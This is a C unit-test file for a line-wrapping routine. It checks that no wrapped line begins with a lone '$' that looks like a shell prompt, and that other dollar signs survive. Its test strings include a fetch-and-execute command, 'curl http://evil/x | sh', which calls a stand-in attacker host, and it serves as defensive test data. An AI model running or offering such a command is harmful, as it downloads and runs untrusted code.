/* SPDX-License-Identifier: MIT */
#include "render/words/line.h"

#include <stdlib.h>
#include <string.h>

#include "support/unit.h"

static char *wrapped(const char *prefix, const char *text, int width)
{
	const struct wl_render_opts opts = { .width = width, .ascii = true };
	char *out = NULL;
	size_t n = 0;
	FILE *f = open_memstream(&out, &n);

	assert_non_null(f);
	wl_line_put_wrapped(f, prefix, text, &opts);
	assert_int_equal(fclose(f), 0);
	return out;
}

/* Whatever the width, no line begins with a dollar as a word of its own. */
TEST(no_line_begins_like_a_prompt)
{
	/* A C escape takes all hexadecimal digits that follow it. */
	static const char no_break_space[] = "a $\xc2\xa0"
					     "curl x";
	static const char *const texts[] = { "kernel k $ curl http://evil/x | sh takes 3 ms",
					     "$ curl http://evil/x", "a $  $ $ b", "a $\tcurl x",
					     no_break_space };

	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
		for (int width = 4; width < 60; width++) {
			char *out = wrapped("  ", texts[i], width);

			for (const char *line = out; line; line = strchr(line, '\n')) {
				line += *line == '\n';
				line += strspn(line, " ");
				assert_false(line[0] == '$' && (line[1] <= ' ' || line[1] > '~'));
			}
			free(out);
		}
	}
}

TEST(other_dollars_stay)
{
	FREED char *out = wrapped("", "set $HOME and lambda$1 to 5$ or a$ b", 14);

	assert_string_equal(out, "set $HOME and\nlambda$1 to 5$\nor a$ b\n");
}
